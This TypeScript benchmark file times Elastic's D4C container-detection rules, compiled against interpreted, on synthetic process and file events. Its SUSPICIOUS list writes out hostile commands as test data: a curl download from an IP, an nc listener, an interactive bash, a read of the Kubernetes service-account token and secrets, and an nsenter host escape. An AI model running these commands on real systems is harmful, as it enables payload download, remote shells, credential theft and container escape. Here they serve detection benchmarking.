// Events per second through all of Elastic's D4C rules (66 EQL + 1 KQL), compiled closures
// against the reference interpreter, on one core, over a deterministic mix of D4C documents
// (mostly benign process and file activity, a few suspicious commands).
// Standalone: `npx tsx bench/rules.bench.ts [RULES_DIR]`; or through bench/run.ts (default export).
import { existsSync } from 'node:fs';
import { pathToFileURL } from 'node:url';
import { RuleEngine } from '../src/rules/engine.js';
import { type LoadedRule, loadRules } from '../src/rules/load.js';
import { defaultRulePaths } from '../src/rules/pack.js';
import { rng } from '../src/util/rng.fixture.js';
import { locateElasticRules } from '../test/elastic-rules-dir.js';

import { type BenchResult, size } from './harness.js';

export type { BenchResult };

// Not test/reference.ts: that imports vitest, which cannot load outside a vitest run.
const DEFAULT_RULES = locateElasticRules().dir ?? '';

const BENIGN: string[][] = [
  ['nginx', '-g', 'daemon off;'],
  ['python3', '/app/server.py', '--port', '8080'],
  ['node', '/srv/index.js'],
  ['ls', '-la', '/app'],
  ['cat', '/app/config.yaml'],
  ['sleep', '30'],
  ['java', '-jar', '/opt/app.jar'],
  ['sh', '-c', 'date'],
  ['grep', 'error', '/var/log/app.log'],
  ['ps', 'aux'],
];
const SUSPICIOUS: string[][] = [
  ['curl', '-o', '/tmp/x', 'http://198.51.100.7/x'],
  ['bash', '-i'],
  ['nc', '-lvnp', '4444'],
  ['base64', '-d'],
  ['kubectl', 'get', 'secrets', '-A'],
  ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['chmod', '+x', '/tmp/x'],
  ['nsenter', '-t', '1', '-m', 'sh'],
];
const FILES = [
  '/app/cache/a.tmp',
  '/var/log/app.log',
  '/tmp/upload.bin',
  '/etc/ld.so.preload',
  '/root/.bashrc',
  '/app/data.db',
];

export function makeEvents(n: number, seed = 7): Record<string, unknown>[] {
  const r = rng(seed);
  const pick = <T>(xs: T[]): T => xs[Math.floor(r() * xs.length)]!;
  const t0 = Date.parse('2026-11-28T00:00:00Z');
  const out: Record<string, unknown>[] = [];
  for (let i = 0; i < n; i++) {
    const cid = `${(i % 50).toString(16).padStart(2, '0')}${'ab'.repeat(31)}`;
    const args = r() < 0.03 ? pick(SUSPICIOUS) : pick(BENIGN);
    const name = args[0]!.split('/').pop()!;
    const process = {
      pid: 1000 + (i % 5000),
      entity_id: `e${i}`,
      name,
      executable: `/usr/bin/${name}`,
      args,
      args_count: args.length,
      interactive: r() < 0.2,
      working_directory: '/app',
      parent: {
        name: pick(['bash', 'containerd-shim', 'node', 'sh']),
        executable: '/bin/bash',
        entity_id: `p${i % 300}`,
        interactive: false,
        args: ['bash'],
      },
      entry_leader: { same_as_process: r() < 0.05, entry_meta: { type: 'container' } },
    };
    const kind = r();
    const isFile = kind < 0.35;
    const action = isFile
      ? pick(['creation', 'open', 'deletion', 'rename'])
      : kind < 0.85
        ? 'exec'
        : pick(['fork', 'end']);
    const type = isFile
      ? action === 'creation'
        ? 'creation'
        : action === 'deletion'
          ? 'deletion'
          : 'change'
      : action === 'end'
        ? 'end'
        : 'start';
    const path = pick(FILES);
    out.push({
      '@timestamp': new Date(t0 + i * 3).toISOString(),
      event: {
        id: `ev-${i}`,
        kind: 'event',
        category: [isFile ? 'file' : 'process'],
        action,
        type: [type],
        module: 'cloud_defend',
      },
      host: { os: { type: 'linux' }, name: 'node-1' },
      container: {
        id: cid,
        name: 'app',
        image: { name: 'docker.io/library/app' },
        security_context: { privileged: i % 97 === 0 },
      },
      orchestrator: {
        type: 'kubernetes',
        namespace: 'prod',
        resource: { name: `pod-${i % 50}`, type: 'pod' },
      },
      user: { id: '0' },
      process,
      ...(isFile ? { file: { path, name: path.split('/').pop(), extension: path.split('.').pop() } } : {}),
    });
  }
  return out;
}

function rate(engine: RuleEngine, events: Record<string, unknown>[], minMs: number): number {
  let n = 0;
  let detections = 0;
  const t0 = performance.now();
  let el = 0;
  do {
    for (const e of events) detections += engine.push(e).length;
    n += events.length;
    el = performance.now() - t0;
  } while (el < minMs);
  if (detections < 0) throw new Error('unreachable');
  return n / (el / 1000);
}

async function measureGroup(group: string, rules: LoadedRule[], events: Record<string, unknown>[]) {
  const samples: Record<'compiled' | 'interpreted', number[]> = { compiled: [], interpreted: [] };
  // Warm up both, then interleave samples so machine load affects both alike; report medians.
  for (const mode of ['compiled', 'interpreted'] as const)
    rate(new RuleEngine(rules, { mode }), events.slice(0, 2000), size(200, 1));
  for (let i = 0; i < size(5, 1); i++) {
    for (const mode of ['compiled', 'interpreted'] as const) {
      samples[mode].push(rate(new RuleEngine(rules, { mode }), events, size(300, 1)));
    }
  }
  const median = (xs: number[]): number => xs.sort((a, b) => a - b)[xs.length >> 1]!;
  return [
    { group, name: 'interpreter (reference)', opsPerSec: median(samples.interpreted), baseline: true },
    { group, name: 'compiled', opsPerSec: median(samples.compiled) },
  ];
}

export default async function bench(
  rulesDir = process.env.D4C_ELASTIC_RULES ?? DEFAULT_RULES,
): Promise<BenchResult[]> {
  const pack = loadRules(defaultRulePaths()).rules;
  const events = makeEvents(size(20_000, 200));
  if (rulesDir === '' || !existsSync(rulesDir)) {
    // Elastic's rules are the user's to supply (README): without them, the pack alone, said so.
    const where = locateElasticRules();
    if (where.required || rulesDir !== '') throw new Error(where.problem ?? `rules not found: ${rulesDir}`);
    console.error(`bench rules: ${where.problem}; measuring d4c's pack only`);
    return measureGroup(`${pack.length} d4c pack rules, events/s`, pack, events);
  }
  const elastic = loadRules([rulesDir]).rules;
  const all = [...elastic, ...pack];
  return [
    ...(await measureGroup(`${elastic.length} Elastic D4C rules, events/s`, elastic, events)),
    ...(await measureGroup(`${all.length} rules (Elastic's + d4c pack), events/s`, all, events)),
  ];
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const results = await bench(process.argv[2]);
  const base = results.find((r) => r.baseline)!;
  for (const r of results) {
    console.log(
      `${r.name.padEnd(26)} ${Math.round(r.opsPerSec).toString().padStart(10)} events/s  ${(r.opsPerSec / base.opsPerSec).toFixed(2)}x`,
    );
  }
}
